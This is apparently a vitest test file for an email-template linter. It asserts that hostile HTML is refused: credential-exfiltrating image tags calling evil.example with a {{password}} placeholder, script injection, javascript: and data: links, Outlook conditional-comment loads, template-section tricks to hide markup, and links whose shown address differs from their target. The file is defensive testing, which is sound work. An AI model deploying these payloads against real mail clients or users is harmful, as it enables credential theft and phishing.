import { describe, expect, it } from 'vitest';
import { lintTemplate } from '../../../../src/message/lint/lint-template.js';
import { checkTemplate } from '../../../../src/message/template-check.js';
import { loadingHtml } from '../../../support/html-vectors.js';
import { template } from '../examples.js';

const HEAD = '<html lang="de"><meta name="format-detection" content="telephone=no">';

const NAMES = ['password', 'x', 'a', 'b', 'c', 'd', 'e'];

/** Kinds of the errors that forbid to mail it, whatever the roll says. */
function errors(html: string): string[] {
  const parsed = template({ html: HEAD + html });
  const known = new Map(
    NAMES.map((name, column) => [name, { kind: 'column', column, secret: column === 0 } as const]),
  );
  const findings = [...lintTemplate(parsed, 'de'), ...checkTemplate(parsed, known, [])];
  return findings.filter(({ severity }) => severity === 'error').map(({ kind }) => kind);
}

// Why: each of these went out without a finding, and Chromium asked the stranger's server.
describe('what loads is refused:', () => {
  it.each(loadingHtml('https://evil.example'))('%s', (html) => {
    expect(errors(html)).not.toEqual([]);
  });
});

describe('a credential cannot be put into what loads:', () => {
  it.each([
    `<!x title="><img src='https://evil.example/?{{password}}'>">`,
    `<?x title="><img src='https://evil.example/?{{password}}'>">`,
    '<svg><title><img src="https://evil.example/?{{password}}"></title></svg>',
    '<!-- --!><img src="https://evil.example/?{{password}}"> -->',
    '<svg><style><img src="https://evil.example/?{{password}}"></style></svg>',
    `<!x title="><script>x='{{password}}'</script>">`,
    '<svg><title><script>{{password}}</script></title></svg>',
    '<p title="{{#x}}">{{/x}}<img src="https://evil.example/?{{password}}">">',
    '<select><title><img src="https://evil.example/?{{password}}"></title></select>',
  ])('%s', (html) => {
    expect(errors(html)).toContain('placeholder-in-attribute');
  });
});

describe('a section cannot hide anything:', () => {
  it.each([
    '<{{#x}} {{/x}}script>alert(1)</script>',
    '<{{#x}} {{/x}}img src="https://evil.example/?{{password}}">',
    '<title></tit{{#x}}-{{/x}}le><img src="https://evil.example/?{{password}}"></title>',
    '<title></tit{{#x}}-{{/x}}le><script>a</script></title>',
    '<p style="background:ur{{#x}}-{{/x}}l(https://evil.example/)">a',
    '<style>p{background:ur{{#x}}-{{/x}}l(https://evil.example/)}</style>',
    '<!--[{{#x}}-{{/x}}if mso]><img src="//evil.example/a"><![endif]-->',
    '<a href="{{^x}}javascript:alert(1){{/x}}{{#x}}https://wahl.example/{{/x}}">a</a>',
    '<a href="{{#x}}https://wahl.example/{{/x}}{{^x}}//evil.example/{{/x}}{{password}}">a</a>',
    '<a href="{{#a}}1{{/a}}{{#b}}1{{/b}}{{#c}}1{{/c}}{{#d}}1{{/d}}{{#e}}1{{/e}}{{password}}">a</a>',
    '<p title="{{#x}}">{{/x}}<img src="https://evil.example/">">',
    '<a {{#x}}title="{{/x}}" href="https://evil.example/">a</a>',
    '<meta http-equiv="re{{#x}}-{{/x}}fresh" content="0;url=https://evil.example/">',
    '{{#x}}<svg>{{/x}}<title><img src="https://evil.example/"></title>',
  ])('%s', (html) => {
    expect(errors(html)).not.toEqual([]);
  });
});

describe('what Outlook would load from its comments is refused:', () => {
  it.each([
    'src="file://evil/share/x.png"',
    'src="\\\\evil\\share\\x"',
    'src\n=\n"https://evil.example/a"',
    "src='//evil.example/a'",
    'src="https&#58;//evil.example/a"',
  ])('%s', (attribute) => {
    for (const tag of ['img', 'v:fill', 'v:imagedata', 'w:x'])
      expect(errors(`<!--[if mso]><${tag} ${attribute}/><![endif]-->`)).toContain('remote-resource');
  });
});

describe('what acts or sends is refused:', () => {
  it.each([
    ['<script>alert(1)</script>', 'html-not-allowed'],
    ['<p onmouseover="alert(1)">a', 'html-not-allowed'],
    ['<form action="https://evil.example/"><input name=a></form>', 'html-not-allowed'],
    ['<button formaction="https://evil.example/">a</button>', 'html-not-allowed'],
    ['<object classid="clsid:0">a</object>', 'html-not-allowed'],
    ['<applet codebase="https://evil.example/">a</applet>', 'html-not-allowed'],
    ['<a ping="https://evil.example/" href="https://wahl.example/">a</a>', 'html-not-allowed'],
    ['<style>p{background:src("https://evil.example/")}</style>', 'remote-resource'],
    ['<style>p{background:\\75 rl(x)}</style>', 'html-not-allowed'],
    ['<a href="javascript:alert(1)">a</a>', 'link-not-allowed'],
    ['<a href="java&#10;script:alert(1)">a</a>', 'link-not-allowed'],
    ['<a href="data:text/html,a">a</a>', 'link-not-allowed'],
    ['<a href="file:///a">a</a>', 'link-not-allowed'],
    ['<a href="http://wahl.example/">a</a>', 'link-not-allowed'],
    ['<a href="//wahl.example/">a</a>', 'link-not-allowed'],
    ['<a href="https://wahl.example@evil.example/">a</a>', 'link-not-allowed'],
    ['<a href="https://wahl.example\\@evil.example/">a</a>', 'link-not-allowed'],
    ['<!--[if mso]><v:rect href="javascript:alert(1)"/><![endif]-->', 'link-not-allowed'],
    [`<a x'href="https://wahl.example/"href="https://evil.example/">a</a>`, 'html-malformed'],
    [`<a y"href="https://wahl.example/"href="https://evil.example/">a</a>`, 'html-malformed'],
    ['<a href="https://wahl.example/" href="https://evil.example/">a</a>', 'html-malformed'],
    ['<p title="a', 'html-malformed'],
    ['<!--><p>a', 'html-malformed'],
    ['<div>'.repeat(2_000), 'html-malformed'],
  ])('%s', (html, kind) => {
    expect(errors(html)).toContain(kind);
  });
});

// Why: a browser or a reader sees the address all the same.
describe('an address that a link shows is found however it is dressed up:', () => {
  it.each([
    '<a href="https://evil.example/">wahl.muster.example&#8203;</a>',
    '<a href="https://evil.example/">wahl.muster&shy;.example</a>',
    '<a href="https://evil.example/">wahl&#65294;muster&#12290;example</a>',
    '<a href="https://evil.example/">Zur Wahl: wahl.muster.example</a>',
    '<a href="https://evil.example/">(wahl.muster.example)</a>',
    '<a href="https://evil.example/">Schreiben Sie an wahl@muster.example!</a>',
    '<a href="https://evil.example/"><img src="cid:logo" alt="wahl.muster.example"></a>',
    '<a href="https://evil.example/" title="wahl.muster.example">Wahl</a>',
    '<a href="https://evil.example/"><table><tr><td></a>wahl.muster.example</table></a>',
    '<map name="m"><area href="https://evil.example/" alt="wahl.muster.example"></map>',
    '<!--[if mso]><v:rect href="https://evil.example/"><center>wahl.muster.example</center></v:rect><![endif]-->',
  ])('%s', (html) => {
    expect(errors(html)).toContain('link-leads-elsewhere');
  });

  it.each([
    '<a href="https://wahl.example/">Ende ist um 18 Uhr.Dann wird gezählt, z.B. hier</a>',
    '<a href="https://wahl.example/">Zur Wahl: wahl.example</a>',
    '<a href="https://wahl.example/">Hinweise.pdf von Dr. Muster</a>',
    '<a href="mailto:wahl%40muster.example">wahl@muster.example</a>',
  ])('but not %s', (html) => {
    expect(errors(html)).toEqual([]);
  });
});

it('a mail template as designers write them has no fault', () => {
  const html = `<!doctype html>
<html lang="de" xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head>
<meta charset="utf-8"><meta http-equiv="X-UA-Compatible" content="IE=edge">
<meta name="viewport" content="width=device-width"><meta name="color-scheme" content="light dark">
<meta name="format-detection" content="telephone=no"><meta name="x-apple-disable-message-reformatting">
<title>Wahl {{#x}}für {{x}}{{/x}}</title>
<!--[if mso]><noscript><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml></noscript>
<style>v\\:* { behavior: url(#default#VML); } table { border-collapse: collapse }</style><![endif]-->
<style type="text/css" media="all">
  #outlook a { padding: 0 } .sm\\:w-full { width: 100% } u + #body a { color: inherit }
  @media (prefers-color-scheme: dark) { .dark { background: #111 !important } }
  [data-ogsc] .dark { color: #fff !important }
</style>
</head>
<body id="body" class="dark" style="margin:0;padding:0;-webkit-text-size-adjust:100%" bgcolor="#ffffff" link="#003366">
<div role="article" aria-roledescription="email" aria-label="Wahl" lang="de">
<!-- Kopf -->
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0"><tr{{#x}} class="dark"{{/x}}><td align="center" valign="top">
<img src="cid:logo" alt="Musterverband" width="160" height="40" border="0" style="display:block">
{{#x}}<p>a</p>{{/x}}
<!--[if mso]><v:roundrect xmlns:w="urn:schemas-microsoft-com:office:word" href="https://wahl.example/" style="height:40px;v-text-anchor:middle;width:200px" arcsize="10%" strokecolor="#1e3650" fillcolor="#1c4a7e"><w:anchorlock/><center style="color:#ffffff">Zur Wahl</center></v:roundrect><![endif]-->
<!--[if !mso]><!--><a href="https://wahl.example/" target="_blank" rel="noopener">Zur Wahl</a><!--<![endif]-->
<![if !mso]><p>b</p><![endif]>
</td></tr></table></div>
</body></html>`;
  const parsed = template({ html });
  expect([...lintTemplate(parsed, 'de'), ...parsed.placement.refused, ...parsed.placement.splits]).toEqual(
    [],
  );
});
